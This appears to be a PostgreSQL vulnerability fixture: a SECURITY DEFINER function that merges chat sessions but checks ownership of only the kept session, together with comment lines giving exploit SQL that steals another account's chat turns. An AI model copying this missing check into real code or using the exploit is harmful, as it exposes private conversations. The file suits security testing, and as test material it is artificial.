-- The function checks the session that is kept, but not the one whose turns are moved into it.
-- about: merge_sessions, turns
-- as: hf_chatbots_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: SELECT api.merge_sessions('11111111-0000-0000-0000-000000000002',
-- exploit: '22222222-0000-0000-0000-000000000002');
-- exploit: SELECT body FROM bots.turns;
-- shows: Road-secret question
-- A visitor who comes back has one session.
CREATE FUNCTION api.merge_sessions(kept uuid, gone uuid) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = bots, pg_temp AS $$
DECLARE target uuid;
BEGIN
  SELECT s.account_id INTO target FROM sessions s WHERE s.id = kept AND works_at(s.account_id);
  IF NOT FOUND THEN
    RAISE EXCEPTION 'no such session';
  END IF;
  UPDATE turns t SET account_id = target, session_id = kept, n = t.n + 1000 WHERE t.session_id = gone;
  DELETE FROM sessions s WHERE s.id = gone;
END
$$;
GRANT EXECUTE ON FUNCTION api.merge_sessions(uuid, uuid) TO hf_chatbots_app;
